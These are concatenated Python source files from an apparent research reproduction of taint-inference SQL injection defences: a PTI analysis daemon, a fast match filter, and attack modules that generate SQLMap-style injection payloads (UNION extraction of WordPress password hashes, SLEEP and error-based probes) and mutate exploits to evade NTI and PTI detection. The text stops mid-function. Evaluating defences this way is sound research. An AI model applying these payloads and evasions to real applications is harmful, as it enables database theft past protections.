  :class:`PTIDaemon`, reached over a pipe.  Two lifetimes mirror the paper:
  ``persistent=True`` spawns once and reuses the process (the optimized
  daemon); ``persistent=False`` spawns a fresh process per query (the
  paper's unoptimized initial implementation).  Spawn and IPC times are
  accounted separately because the paper's "PHP extension" overhead
  estimate is computed by excluding exactly those costs (Section VI-C).
"""

from __future__ import annotations

import multiprocessing
import time
from dataclasses import dataclass, field

from ..core.verdict import AnalysisResult, Technique
from ..sqlparser.parser import critical_tokens
from ..sqlparser.structure import signature_and_tokens
from ..sqlparser.tokens import Token
from .caches import QueryCache, StructureCache
from .fragments import FragmentStore
from .inference import PTIAnalyzer, PTIConfig

__all__ = ["DaemonReply", "StageTimings", "PTIDaemon", "SubprocessPTIDaemon"]


class StageTimings:
    """Accumulated wall-clock seconds per pipeline stage."""

    STAGES = ("spawn", "ipc", "parse", "match", "cache")

    def __init__(self) -> None:
        self.seconds: dict[str, float] = {stage: 0.0 for stage in self.STAGES}

    def add(self, stage: str, dt: float) -> None:
        self.seconds[stage] = self.seconds.get(stage, 0.0) + dt

    def total(self, *, exclude: tuple[str, ...] = ()) -> float:
        return sum(v for k, v in self.seconds.items() if k not in exclude)

    def reset(self) -> None:
        for stage in self.seconds:
            self.seconds[stage] = 0.0

    def snapshot(self) -> dict[str, float]:
        return dict(self.seconds)


@dataclass
class DaemonReply:
    """What the daemon communicates back to the application wrapper."""

    safe: bool
    result: AnalysisResult
    tokens: list[Token] | None = None  # None when served from a cache
    from_cache: str | None = None  # "query" | "structure" | None


@dataclass
class DaemonConfig:
    """Cache/optimization switches (each a Table V / Fig. 7 ablation axis).

    ``strict_tokens`` selects the Ray/Ligatti-style token policy in which
    identifiers are critical too (paper Section II's adjustable policy).
    """

    use_query_cache: bool = True
    use_structure_cache: bool = True
    pti: PTIConfig = field(default_factory=PTIConfig)
    query_cache_capacity: int = 10_000
    structure_cache_capacity: int = 10_000
    strict_tokens: bool = False


class PTIDaemon:
    """The PTI analysis service: parse, cache-lookup, fragment-match."""

    def __init__(
        self, store: FragmentStore, config: DaemonConfig | None = None
    ) -> None:
        self.config = config or DaemonConfig()
        self.analyzer = PTIAnalyzer(store, self.config.pti)
        self.query_cache = QueryCache(self.config.query_cache_capacity)
        self.structure_cache = StructureCache(self.config.structure_cache_capacity)
        self.timings = StageTimings()
        self.queries_analyzed = 0

    @property
    def store(self) -> FragmentStore:
        return self.analyzer.store

    def refresh_fragments(self, store: FragmentStore) -> None:
        """Swap in a new fragment set (plugin installed/updated, IV-B).

        Cached verdicts were computed against the old vocabulary, so both
        caches are invalidated.
        """
        self.analyzer = PTIAnalyzer(store, self.config.pti)
        self.query_cache.clear()
        self.structure_cache.clear()

    def analyze_query(self, query: str) -> DaemonReply:
        """Full daemon pipeline for one query."""
        self.queries_analyzed += 1
        if self.config.use_query_cache:
            t0 = time.perf_counter()
            cached = self.query_cache.get(query)
            self.timings.add("cache", time.perf_counter() - t0)
            if cached is not None:
                safe, cached_tokens = cached
                return DaemonReply(
                    safe=safe,
                    result=AnalysisResult(
                        technique=Technique.PTI, safe=safe, from_cache="query"
                    ),
                    tokens=cached_tokens,
                    from_cache="query",
                )
        signature: str | None = None
        tokens: list[Token] | None = None
        if self.config.use_structure_cache:
            t0 = time.perf_counter()
            signature, tokens = signature_and_tokens(
                query, strict=self.config.strict_tokens
            )
            self.timings.add("parse", time.perf_counter() - t0)
            t0 = time.perf_counter()
            cached = (
                self.structure_cache.get(signature) if signature is not None else None
            )
            self.timings.add("cache", time.perf_counter() - t0)
            if cached is not None:
                if self.config.use_query_cache:
                    self.query_cache.put(query, (cached, tokens))
                return DaemonReply(
                    safe=cached,
                    result=AnalysisResult(
                        technique=Technique.PTI, safe=cached, from_cache="structure"
                    ),
                    tokens=tokens,
                    from_cache="structure",
                )
        if tokens is None:
            t0 = time.perf_counter()
            tokens = critical_tokens(query, strict=self.config.strict_tokens)
            self.timings.add("parse", time.perf_counter() - t0)
        t0 = time.perf_counter()
        result = self.analyzer.analyze(query, tokens)
        self.timings.add("match", time.perf_counter() - t0)
        t0 = time.perf_counter()
        if self.config.use_query_cache:
            self.query_cache.put(query, (result.safe, tokens))
        # Only SAFE verdicts are cacheable by signature: the signature
        # identifies a code-site template, and a template once proven safe
        # stays safe for any bound data.  Unsafe verdicts are not structural
        # facts (a differently-spaced/ cased attack may be coverable), and
        # attacks are rare enough that re-analysing them costs nothing --
        # "malicious queries may require scanning the entire set of
        # fragments" (Section VI-A).
        if (
            self.config.use_structure_cache
            and signature is not None
            and result.safe
        ):
            self.structure_cache.put(signature, result.safe)
        self.timings.add("cache", time.perf_counter() - t0)
        return DaemonReply(safe=result.safe, result=result, tokens=tokens)


def _daemon_loop(conn, fragments: list[str], config: DaemonConfig) -> None:
    """Child-process entry point: serve queries over the pipe until EOF.

    Each reply carries the child's per-stage timing deltas so the parent can
    attribute analysis time to parse/match/cache even across the process
    boundary (needed for the Figure 7 breakdown).
    """
    daemon = PTIDaemon(FragmentStore(fragments), config)
    previous = daemon.timings.snapshot()
    while True:
        try:
            message = conn.recv()
        except EOFError:
            break
        if message is None:
            break
        reply = daemon.analyze_query(message)
        current = daemon.timings.snapshot()
        deltas = {k: current[k] - previous.get(k, 0.0) for k in current}
        previous = current
        conn.send((reply.safe, reply.from_cache, reply.tokens, deltas))
    conn.close()


class SubprocessPTIDaemon:
    """A real PTI daemon child process reached over an anonymous pipe.

    In ``persistent`` mode the process is spawned once (named-pipe-style
    long-lived daemon); otherwise every query pays a fresh spawn (the
    unoptimized configuration of Figure 7).
    """

    def __init__(
        self,
        store: FragmentStore,
        config: DaemonConfig | None = None,
        *,
        persistent: bool = True,
    ) -> None:
        self.fragments = store.fragments
        self.config = config or DaemonConfig()
        self.persistent = persistent
        self.timings = StageTimings()
        self._conn = None
        self._process: multiprocessing.Process | None = None

    # ------------------------------------------------------------------

    def _spawn(self):
        t0 = time.perf_counter()
        parent_conn, child_conn = multiprocessing.Pipe()
        process = multiprocessing.Process(
            target=_daemon_loop,
            args=(child_conn, self.fragments, self.config),
            daemon=True,
        )
        process.start()
        child_conn.close()
        self.timings.add("spawn", time.perf_counter() - t0)
        return parent_conn, process

    def analyze_query(self, query: str) -> DaemonReply:
        """Ship one query to the child and wait for its verdict.

        A persistent daemon that died between queries (crash, OOM-kill) is
        respawned transparently -- losing only its caches, never failing
        open: a query is executed only after a live daemon vouches for it.
        """
        if self.persistent:
            if self._process is None or not self._process.is_alive():
                self._conn, self._process = self._spawn()
            conn = self._conn
        else:
            conn, process = self._spawn()
        t0 = time.perf_counter()
        try:
            conn.send(query)
            safe, from_cache, tokens, child_deltas = conn.recv()
        except (EOFError, BrokenPipeError, OSError):
            if not self.persistent:
                raise
            # Child died mid-flight: respawn once and retry the query.
            self.close()
            self._conn, self._process = self._spawn()
            conn = self._conn
            conn.send(query)
            safe, from_cache, tokens, child_deltas = conn.recv()
        elapsed = time.perf_counter() - t0
        # Attribute the child's analysis stages, and count only the residual
        # (serialisation + pipe transit + scheduling) as IPC.
        analysis = 0.0
        for stage, dt in child_deltas.items():
            self.timings.add(stage, dt)
            analysis += dt
        self.timings.add("ipc", max(elapsed - analysis, 0.0))
        if not self.persistent:
            conn.send(None)
            conn.close()
            process.join(timeout=5)
        return DaemonReply(
            safe=safe,
            result=AnalysisResult(
                technique=Technique.PTI, safe=safe, from_cache=from_cache
            ),
            tokens=tokens,
            from_cache=from_cache,
        )

    def close(self) -> None:
        """Shut down a persistent child process."""
        if self._conn is not None:
            try:
                self._conn.send(None)
                self._conn.close()
            except (BrokenPipeError, OSError):
                pass
            self._conn = None
        if self._process is not None:
            self._process.join(timeout=5)
            if self._process.is_alive():  # pragma: no cover - defensive
                self._process.terminate()
            self._process = None

    def __enter__(self) -> "SubprocessPTIDaemon":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
