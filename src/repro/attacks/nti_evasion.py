"""NTI evasion: mutate working exploits so negative taint inference misses.

Implements the paper's novel evasion techniques (Sections III-A and V-A).
NTI correlates *raw* inputs with the final query; any application-side
transformation that changes the input on its way into the query inflates the
edit distance.  The mutation picked for a plugin matches the transformation
its pipeline actually performs (:class:`~repro.testbed.plugin_defs.NtiVector`):

- ``magic_quotes`` -- insert a comment block stuffed with quotes; WordPress's
  magic quotes adds a backslash per quote inside the query (Figure 6C).
- ``urldecode`` -- insert a comment block stuffed with ``%27``; the
  application's urldecode shrinks each to a single quote.
- ``trim`` -- append whitespace; the application trims authenticated users'
  input, deleting it from the query.
- ``base64`` -- the input is decoded before use; the original exploit
  already evades (the AdRotate case behind Table II's 49/50).
- ``split`` -- distribute the payload across concatenated parameters, cut
  inside every critical token, so no single input covers a whole token.

Block/padding sizes are chosen from the NTI threshold so the resulting
difference ratio provably exceeds it.
"""

from __future__ import annotations

import math

from ..matching.ratio import DEFAULT_NTI_THRESHOLD
from ..testbed.exploits import Exploit
from ..testbed.plugin_defs import NtiVector
from .payloads import (
    encoded_quote_comment_block,
    evasion_insertion_point,
    quote_comment_block,
    split_inside_critical_tokens,
)

__all__ = ["mutate_payload_for_nti", "mutate_exploit_for_nti"]


def _quotes_needed(payload_length: int, threshold: float) -> int:
    """Quotes ``k`` such that ``k / (L + overhead + 2k) > threshold``.

    With the comment block in place the matched query region is the payload
    plus the block plus one added backslash per quote, and the edit distance
    is the number of added backslashes ``k``.  Solving
    ``k > threshold * (L + 5 + 2k)`` and doubling for margin.
    """
    if threshold >= 0.5:
        raise ValueError("quote stuffing cannot beat a threshold >= 0.5")
    minimum = threshold * (payload_length + 5) / (1 - 2 * threshold)
    return max(8, 2 * math.ceil(minimum))


def mutate_payload_for_nti(
    payload: str,
    vector: str,
    context: str,
    threshold: float = DEFAULT_NTI_THRESHOLD,
    max_parts: int = 8,
):
    """Mutate one payload value for the given evasion vector.

    Returns a string for in-place vectors, or a tuple of per-parameter parts
    for the ``split`` vector.
    """
    if vector == NtiVector.BASE64:
        return payload  # already unobservable to NTI
    if vector == NtiVector.TRIM:
        padding = max(8, math.ceil(threshold * len(payload) / (1 - threshold)) * 2)
        return payload + " " * padding
    if vector == NtiVector.SPLIT:
        return split_inside_critical_tokens(payload, max_parts)
    if vector == NtiVector.MAGIC_QUOTES:
        block = quote_comment_block(_quotes_needed(len(payload), threshold))
    elif vector == NtiVector.URLDECODE:
        # Each %27 becomes ' (2 edits); the raw block is longer than the
        # matched region, so the plain quote count is already generous.
        block = encoded_quote_comment_block(
            _quotes_needed(len(payload), threshold)
        )
    else:
        raise ValueError(f"unknown NTI evasion vector {vector!r}")
    at = evasion_insertion_point(payload, context)
    return payload[:at] + block + payload[at:]


def mutate_exploit_for_nti(
    exploit: Exploit, threshold: float = DEFAULT_NTI_THRESHOLD
) -> tuple:
    """Mutate every payload of an exploit; returns the new payload tuple."""
    defn = exploit.plugin
    return tuple(
        mutate_payload_for_nti(
            payload,
            defn.nti_vector,
            defn.context,
            threshold,
            max_parts=len(defn.params),
        )
        for payload in exploit.payloads
    )
