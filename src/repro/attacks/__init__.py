"""Attack generation and evasion tools (paper Section V).

- :mod:`~repro.attacks.nti_evasion` -- the paper's novel NTI bypasses
  (quote-stuffed comment blocks, whitespace padding, encoding, payload
  construction across parameters).
- :mod:`~repro.attacks.taintless` -- the Taintless PTI evasion tool.
- :mod:`~repro.attacks.sqlgen` -- SQLMap-style attack-variant generation.
"""

from .nti_evasion import mutate_exploit_for_nti, mutate_payload_for_nti
from .payloads import (
    encoded_quote_comment_block,
    evasion_insertion_point,
    payload_critical_tokens,
    quote_comment_block,
    split_inside_critical_tokens,
)
from .sqlgen import generate_variants
from .taintless import TaintlessResult, query_builder_for, taintless_mutate

__all__ = [
    "mutate_exploit_for_nti",
    "mutate_payload_for_nti",
    "encoded_quote_comment_block",
    "evasion_insertion_point",
    "payload_critical_tokens",
    "quote_comment_block",
    "split_inside_critical_tokens",
    "generate_variants",
    "TaintlessResult",
    "query_builder_for",
    "taintless_mutate",
]
