"""Shared payload-manipulation utilities for the evasion tools."""

from __future__ import annotations

from ..sqlparser.parser import critical_tokens
from ..sqlparser.tokens import Token, TokenType

__all__ = [
    "payload_critical_tokens",
    "evasion_insertion_point",
    "split_inside_critical_tokens",
    "quote_comment_block",
    "encoded_quote_comment_block",
]


def payload_critical_tokens(payload: str) -> list[Token]:
    """Critical tokens of a bare payload string (lexical, parse-free)."""
    return critical_tokens(payload)


def evasion_insertion_point(payload: str, context: str) -> int:
    """Offset at which an inert comment block can be inserted.

    For quoted/LIKE contexts the block must land *after* the breakout quote
    (inside the string literal it would be data, not a comment); for numeric
    contexts the very start of the payload is already SQL context.
    """
    if context in ("quoted", "like"):
        idx = payload.find("' ")
        if idx >= 0:
            return idx + 2
        idx = payload.find("'")
        if idx >= 0:
            return idx + 1
    return 0


def quote_comment_block(quotes: int) -> str:
    """A ``/*'''...*/`` block: each quote gains a backslash under magic
    quotes, inflating NTI's edit distance (paper Figure 6C)."""
    return "/*" + "'" * quotes + "*/ "


def encoded_quote_comment_block(quotes: int) -> str:
    """A ``/*%27%27...*/`` block for applications that urldecode their
    input: each ``%27`` shrinks to ``'`` in the query (2 edits apiece)."""
    return "/*" + "%27" * quotes + "*/ "


def split_inside_critical_tokens(payload: str, max_parts: int) -> tuple[str, ...]:
    """Split a payload so no part contains a whole critical token.

    Implements the paper's *payload construction* attack (Section III-A):
    the application concatenates several inputs, and because NTI never
    combines markings from different inputs, cutting every critical token in
    half leaves each individual part unable to cover one.

    Raises ``ValueError`` when the payload has more critical tokens than
    ``max_parts - 1`` cut points can bisect, or contains a one-character
    critical token (which cannot be cut).
    """
    tokens = payload_critical_tokens(payload)
    cuts: list[int] = []
    for token in tokens:
        if token.end - token.start < 2:
            raise ValueError(
                f"cannot split inside one-character critical token {token.text!r}"
            )
        cuts.append(token.start + (token.end - token.start) // 2)
    if len(cuts) + 1 > max_parts:
        raise ValueError(
            f"payload needs {len(cuts) + 1} parts but only {max_parts} are available"
        )
    parts: list[str] = []
    last = 0
    for cut in cuts:
        parts.append(payload[last:cut])
        last = cut
    parts.append(payload[last:])
    return tuple(parts)
