"""SQLMap-style attack-variant generation (paper Section V-A, Table II).

The paper ran SQLMap against four plugins -- one per exploit class -- and it
produced on average 40 valid attack payloads per plugin, all of which both
NTI and PTI detected.  This module generates an equivalent deterministic
corpus: for a given plugin it emits ``count`` distinct payload variants of
the plugin's attack class, mixing the probe families SQLMap actually uses
(boolean confirmation pairs, UNION column sweeps with NULL padding,
time-based probes with varying delays/wrappers, error-based probes,
tautology morphs, comment-style variants).

Payloads are crafted the way SQLMap emits them -- compact spacing, uppercase
keywords -- which is precisely the form taint inference catches.
"""

from __future__ import annotations

from ..testbed.plugin_defs import AttackType, PluginDef

__all__ = ["generate_variants"]


def _lcg(seed: int):
    state = seed & 0x7FFFFFFF or 1

    def next_int(bound: int) -> int:
        nonlocal state
        state = (state * 48271) % 0x7FFFFFFF
        return state % bound

    return next_int


def _wrap(defn: PluginDef, clause: str) -> str:
    """Attach a boolean clause to the plugin's injection context."""
    if defn.context in ("quoted", "like"):
        return f"x' {clause}-- -"
    return f"1 {clause}"


def _boolean_variants(defn: PluginDef, rand, count: int) -> list[str]:
    out = []
    while len(out) < count:
        a = 1000 + rand(9000)
        flip = rand(2)
        b = a if flip == 0 else a + 1 + rand(50)
        op = ("AND", "OR")[rand(2)]
        out.append(_wrap(defn, f"{op} {a}={b}"))
        out.append(_wrap(defn, f"{op} NOT {a}>{a + 1 + rand(9)}"))
    return out[:count]


def _union_variants(defn: PluginDef, rand, count: int) -> list[str]:
    out = []
    ncols = defn.select_cols
    comments = ("", "#", "-- -")
    # Column-count probing (ORDER BY n) exactly as SQLMap starts.
    for n in range(1, 7):
        out.append(f"1 ORDER BY {n}-- -")
    targets = (
        ("user_pass", "wp_users"),
        ("table_name", "information_schema.tables"),
        ("column_name", "information_schema.columns"),
    )
    width = 0
    while len(out) < count:
        width = width % (ncols + 2) + 1
        cols = ["NULL"] * width
        column, table = targets[rand(len(targets))]
        cols[rand(width)] = f"CONCAT(0x71766a7671,{column},0x71706b7871)"
        comment = comments[rand(len(comments))]
        out.append(
            f"-{1 + rand(100)} UNION ALL SELECT {','.join(cols)} "
            f"FROM {table}{comment}"
        )
    return out[:count]


def _time_variants(defn: PluginDef, rand, count: int) -> list[str]:
    out = []
    while len(out) < count:
        delay = 1 + rand(5)
        style = rand(3)
        if style == 0:
            clause = f"AND SLEEP({delay})"
        elif style == 1:
            clause = f"AND (SELECT * FROM (SELECT SLEEP({delay}))x)"
        else:
            clause = f"OR IF(1=1,SLEEP({delay}),0)"
        out.append(_wrap(defn, clause))
        out.append(_wrap(defn, f"AND BENCHMARK({(1 + rand(20)) * 1000000},MD5({rand(100)}))"))
    return out[:count]


def _error_variants(defn: PluginDef, rand, count: int) -> list[str]:
    out = []
    while len(out) < count:
        marker = 0x716B7A71 + rand(1000)
        fn = ("EXTRACTVALUE", "UPDATEXML")[rand(2)]
        if fn == "EXTRACTVALUE":
            clause = f"AND EXTRACTVALUE({rand(9000)},CONCAT(0x7e,{marker}))"
        else:
            clause = f"AND UPDATEXML({rand(9000)},CONCAT(0x7e,{marker}),1)"
        out.append(_wrap(defn, clause))
    return out[:count]


def _tautology_variants(defn: PluginDef, rand, count: int) -> list[str]:
    out = []
    while len(out) < count:
        a = 1 + rand(500)
        shapes = [
            f"OR {a}={a}",
            f"OR {a}<{a + 1 + rand(9)}",
            f"OR {a} BETWEEN {a - 1} AND {a + 1}",
            f"OR NOT {a}>{a + 1}",
            f"OR {a} IN ({a},{a + 1})",
        ]
        clause = shapes[rand(len(shapes))]
        if defn.context in ("quoted", "like"):
            out.append(f"x' {clause}-- -")
        else:
            out.append(f"0 {clause}")
    return out[:count]


def generate_variants(
    defn: PluginDef, count: int = 40, seed: int = 1337
) -> list[str]:
    """``count`` distinct valid attack payloads for ``defn``'s vulnerability."""
    rand = _lcg(seed + hash(defn.name) % 100000)
    if defn.attack_type == AttackType.UNION:
        variants = _union_variants(defn, rand, count)
    elif defn.attack_type == AttackType.TAUTOLOGY:
        variants = _tautology_variants(defn, rand, count)
    elif defn.attack_type == AttackType.DOUBLE_BLIND:
        variants = _time_variants(defn, rand, count)
    else:
        half = count // 2
        variants = _boolean_variants(defn, rand, count - half) + _error_variants(
            defn, rand, half
        )
    # Deduplicate while preserving order, then top up with boolean probes.
    seen: set[str] = set()
    unique = [v for v in variants if not (v in seen or seen.add(v))]
    filler = _boolean_variants(defn, rand, count)
    for extra in filler:
        if len(unique) >= count:
            break
        if extra not in seen:
            seen.add(extra)
            unique.append(extra)
    return unique[:count]
