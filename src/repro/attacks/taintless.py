"""Taintless: automated PTI evasion (paper Section V-A, reference [1]).

    "Taintless replaces certain SQL tokens with their equivalents (e.g.,
    UNION with UNION ALL, CHAR with string literals), matches the letter
    case of attack tokens with those available in the application, removes
    those tokens not found inside the application that can be safely removed
    from the attack payload, and also matches the type and number of
    whitespaces with those available in the application."

The implementation is an iterative repair loop.  Each round builds the
final query (through the target plugin's real transform pipeline), runs the
PTI analyzer, and picks the first uncovered critical token.  Candidate
repairs -- case variants harvested from the application's fragments,
whitespace grafts, documented equivalents, and comment-terminator
alternatives/removals -- are applied to the payload; a repair is kept only
if it strictly reduces the number of uncovered tokens.  The loop succeeds
when PTI deems the query safe, and the harness then re-verifies the mutated
exploit still functions against the unprotected application.

Whether Taintless succeeds against a given plugin is therefore an emergent
property of that application's fragment vocabulary, exactly as in the
paper: payloads needing only tokens present as short fragments (tautologies,
FROM-free information-leak unions) are adaptable; payloads needing
``SLEEP``/``IF``/scalar subqueries are not.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Callable

from ..pti.fragments import FragmentStore, token_index_key
from ..pti.inference import PTIAnalyzer, PTIConfig
from ..sqlparser.tokens import Token, TokenType

__all__ = ["TaintlessResult", "taintless_mutate", "query_builder_for"]

#: Token equivalents Taintless may substitute (paper's examples plus the
#: standard comparison/logical synonyms).
_EQUIVALENTS: dict[str, tuple[str, ...]] = {
    "union": ("UNION ALL", "union all"),
    "and": ("&&",),
    "or": ("||",),
    "=": (" = ", " LIKE ", " like "),
    "<>": ("!=",),
    "!=": ("<>",),
}

#: Alternative trailing-comment terminators to try, in order.
_COMMENT_ALTERNATIVES = ("#", "-- -", "")


@dataclass
class TaintlessResult:
    """Outcome of one Taintless run."""

    payload: str | None  # mutated payload, or None when adaptation failed
    rounds: int
    uncovered_history: list[list[str]]

    @property
    def succeeded(self) -> bool:
        return self.payload is not None


def query_builder_for(app, defn) -> Callable[[str], str]:
    """Build ``payload -> final query`` through the *real* plugin pipeline.

    Sends the payload as an actual request to ``app`` (which must be
    unprotected) and returns the last query the plugin issued, exactly as an
    attacker proxies their probe through the application.
    """
    from ..testbed.exploits import make_request  # local import: avoid cycle

    def build(payload: str) -> str:
        before = len(app.db.query_log)
        app.handle(make_request(defn, payload))
        issued = app.db.query_log[before:]
        if not issued:
            raise RuntimeError(f"plugin {defn.name} issued no query")
        return issued[-1]

    return build


def _case_and_whitespace_candidates(
    payload: str, token: Token, store: FragmentStore
) -> list[str]:
    """Payload rewrites matching a fragment's letter case / whitespace."""
    text = token.text
    candidates: list[str] = []
    pattern = re.compile(re.escape(text), re.IGNORECASE)
    for fragment in store.candidates_for(token_index_key(token)):
        for match in pattern.finditer(fragment):
            variant = match.group(0)
            if variant != text:
                candidates.append(payload.replace(text, variant))
        # Whitespace matching: when the fragment is the token wrapped in
        # whitespace (" OR ", " = "), graft that exact spacing around every
        # occurrence so the fragment appears verbatim in the query.
        stripped = fragment.strip()
        if stripped and stripped.lower() == text.lower() and fragment != stripped:
            candidates.append(payload.replace(text, f" {stripped} "))
    return candidates


def _comment_candidates(payload: str, token: Token) -> list[str]:
    """Swap or drop an uncoverable trailing comment terminator."""
    candidates: list[str] = []
    marker = "#" if token.text.startswith("#") else (
        "--" if token.text.startswith("--") else "/*"
    )
    idx = payload.rfind(marker)
    if idx < 0:
        return candidates
    head = payload[:idx].rstrip()
    for alternative in _COMMENT_ALTERNATIVES:
        replacement = f"{head}{alternative}" if alternative else head
        if replacement != payload:
            candidates.append(replacement)
    return candidates


def _equivalent_candidates(payload: str, token: Token) -> list[str]:
    candidates: list[str] = []
    for equivalent in _EQUIVALENTS.get(token.text.lower(), ()):
        rewritten = payload.replace(token.text, equivalent)
        if rewritten != payload:
            candidates.append(rewritten)
    return candidates


def taintless_mutate(
    payload: str,
    build_query: Callable[[str], str],
    store: FragmentStore,
    max_rounds: int = 10,
) -> TaintlessResult:
    """Adapt ``payload`` until PTI over ``store`` deems its query safe.

    Returns a failed :class:`TaintlessResult` when no candidate repair
    reduces the uncovered-token count (the plugin's vocabulary does not
    support the payload).
    """
    analyzer = PTIAnalyzer(store, PTIConfig(use_mru=False))

    def uncovered(p: str) -> list[Token]:
        try:
            query = build_query(p)
        except Exception:
            return [Token(TokenType.OPERATOR, "<build-failed>", 0, 0)]
        result = analyzer.analyze(query)
        return [
            Token(TokenType.COMMENT, d.token_text, d.token_start, d.token_end)
            if d.token_text.startswith(("#", "--", "/*"))
            else Token(TokenType.OPERATOR, d.token_text, d.token_start, d.token_end)
            for d in result.detections
        ]

    current = payload
    history: list[list[str]] = []
    for round_no in range(1, max_rounds + 1):
        missing = uncovered(current)
        history.append([t.text for t in missing])
        if not missing:
            return TaintlessResult(current, round_no, history)
        progressed = False
        for token in missing:
            if token.text == "<build-failed>":
                break
            candidates: list[str] = []
            candidates.extend(_case_and_whitespace_candidates(current, token, store))
            candidates.extend(_equivalent_candidates(current, token))
            if token.text.startswith(("#", "--", "/*")):
                candidates.extend(_comment_candidates(current, token))
            for candidate in candidates:
                if len(uncovered(candidate)) < len(missing):
                    current = candidate
                    progressed = True
                    break
            if progressed:
                break
        if not progressed:
            return TaintlessResult(None, round_no, history)
    final_missing = uncovered(current)
    history.append([t.text for t in final_missing])
    if final_missing:
        return TaintlessResult(None, max_rounds, history)
    return TaintlessResult(current, max_rounds, history)
