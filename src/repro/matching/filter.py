"""Multi-candidate NTI filter kernel: q-gram pigeonhole + vertical packing.

The NTI hot loop runs one approximate-substring scan per candidate input
per query -- ``O(candidates * |query|)`` even when almost no input can
possibly match.  This module supplies the two filter primitives that cut
that cost without changing a single verdict or span:

**q-gram pigeonhole prefilter** (:func:`qgram_filtered_match`).  For a
pattern of length ``n`` under edit budget ``k``, split the pattern into
``k + 1`` contiguous pieces.  Any substring of the text within ``k`` edits
of the pattern admits an optimal alignment in which the ``k`` edit
operations are distributed over the pieces; by pigeonhole at least one
piece receives none of them and therefore occurs in the text *exactly*.
Probing the pieces -- whole via C-level ``str.find`` while a query's
probe volume is low, or against a per-text 3-gram position index
(:func:`build_gram_index`) once enough probes accumulate to amortise the
``O(|text|)`` build (the index lives on the query's profile, shared
across every candidate and, via the profile cache, across requests; see
:data:`PROBE_INDEX_BUILD`) -- either

- finds no exact piece occurrence: the candidate provably has no match
  within budget and the scan is skipped entirely (the common case for the
  benign bulk of captured inputs), or
- yields *seed* occurrences, each of which confines any budget-passing
  match to a window of ``O(n + k)`` text characters around it.  The
  bit-parallel verifier then runs only over the merged seed windows,
  anchored, instead of the whole query.

Exactness of the anchored verification: a match within budget must contain
an exact piece occurrence, so it lies entirely inside that seed's window
and hence inside the merged interval containing it.  For any text column
``j`` inside a merged interval, the windowed Sellers scan considers a
subset of the substrings the full scan considers (those starting inside
the interval), so its last-row value can only over-approximate the full
scan's -- and whenever the full value is within budget, its witnessing
substring lies inside the same interval, forcing equality.  The filtered
scan therefore recovers the full scan's exact minimum distance *and* the
exact set of columns achieving it; start offsets and tie-breaks are then
reproduced with the same bounded-window walk-back
(:func:`repro.matching.bitparallel.recover_start`) the unfiltered
bit-parallel core uses, over the full text.

**Vertical packing** (:func:`packed_survivors`).  Pigeonhole needs pieces
of at least the gram width, so patterns shorter than ``3 * (k + 1)``
characters fall outside it -- exactly the small-candidate regime (IDs,
flags, short slugs) where per-candidate scans are pure interpreter
overhead.  Those candidates' Myers/Sellers states are packed into one
big-int word, one *lane* per candidate with a guard bit blocking
inter-lane carries, and verified in a single pass over the text: the word
update costs the same ~12 big-int operations as one single-pattern column
but advances every lane at once.  Per-lane scores are tracked in a second
packed word via the high-bit deltas, and a SWAR threshold test marks the
lanes whose score ever dips within budget.  Lanes that never do are
proven matchless (their lane replays the exact single-pattern Sellers
recurrence); surviving lanes are re-verified by the ordinary exact
matcher.

Both primitives are *filters* in the strict sense: they may prune work,
never change a result.  The property suite enforces byte-identical
matches against the unfiltered DP oracle.
"""

from __future__ import annotations

from .bitparallel import build_peq, recover_start, substring_scan

__all__ = [
    "QGRAM",
    "MIN_PIECE",
    "PACKED_MAX_PATTERN",
    "PROBE_INDEX_BUILD",
    "FULL_SCAN",
    "build_bigram_index",
    "build_gram_index",
    "build_seed_indexes",
    "edit_budget",
    "pigeonhole_pieces",
    "qgram_applicable",
    "qgram_filtered_match",
    "packed_survivors",
]

#: Gram width of the per-text position index.  3 balances selectivity
#: (SQL keywords and payload fragments rarely share trigrams with benign
#: text by accident) against index size (O(|text|) entries).
QGRAM = 3

#: Smallest probe-able piece.  Pieces of 3+ characters probe the trigram
#: index; 2-character pieces fall back to the (less selective) bigram
#: position index, extending pigeonhole coverage down to the short
#: patterns the trigram split cannot reach.
MIN_PIECE = 2

#: Upper pattern length for the vertical-packing regime.  Chosen so a
#: lane (pattern cells + guard) stays within a comfortable uniform width
#: and so the regime is exactly the complement of pigeonhole
#: applicability at production thresholds.
PACKED_MAX_PATTERN = 8

#: Sentinel: the filter declined (windows too wide / degenerate ties);
#: the caller must fall through to the unfiltered core.
FULL_SCAN = object()

#: Pigeonhole probes a query profile absorbs before its trigram index is
#: built.  Below this, piece probing goes through C-level ``str.find``
#: (no per-query setup at all); past it -- high fan-in requests, or a
#: cached profile accumulating probes across requests -- the ``O(m)``
#: index build amortises and every later probe gets shared dict lookups.
PROBE_INDEX_BUILD = 48


def edit_budget(length: int, threshold: float) -> int:
    """Maximum edit distance an accepted match of a ``length``-char input can have.

    The acceptance rule of :func:`repro.matching.ratio.match_with_ratio`:
    a match of length ``L`` passes only if ``distance <= threshold * L``,
    and ``L <= length + distance``, bounding
    ``distance <= threshold * length / (1 - threshold)``.  This single
    helper is the one place that arithmetic lives; the ratio front-end,
    the candidate-input length cutoff and the shape-plan input prefilter
    all call it so the budgets can never drift apart.
    """
    return int(threshold * length / (1.0 - threshold)) if threshold else 0


def build_gram_index(text: str) -> dict[str, list[int]]:
    """Position index of every ``QGRAM``-gram of ``text``.

    ``index[g]`` is the ascending list of offsets at which gram ``g``
    occurs (treat as immutable).  Built once per query text (``O(|text|)``)
    and attached to the query's
    :class:`~repro.matching.substring.TextProfile`, so it is shared across
    every candidate input of the query and -- through the cross-request
    profile cache -- across requests.
    """
    positions: dict[str, list[int]] = {}
    for i in range(len(text) - QGRAM + 1):
        gram = text[i : i + QGRAM]
        bucket = positions.get(gram)
        if bucket is None:
            positions[gram] = [i]
        else:
            bucket.append(i)
    return positions


def build_bigram_index(text: str) -> dict[str, list[int]]:
    """Position index of every bigram of ``text`` (see :func:`build_gram_index`).

    Extends pigeonhole coverage to 2-character pieces (short patterns
    under tight budgets, where the trigram split does not exist).  Kept
    separate from the trigram index so callers can defer building it: at
    the default NTI threshold every probe-able pattern splits into 3+
    character pieces and the bigram index is never touched.
    """
    positions: dict[str, list[int]] = {}
    for i in range(len(text) - 1):
        gram = text[i : i + 2]
        bucket = positions.get(gram)
        if bucket is None:
            positions[gram] = [i]
        else:
            bucket.append(i)
    return positions


def build_seed_indexes(
    text: str,
) -> tuple[dict[str, list[int]], dict[str, list[int]]]:
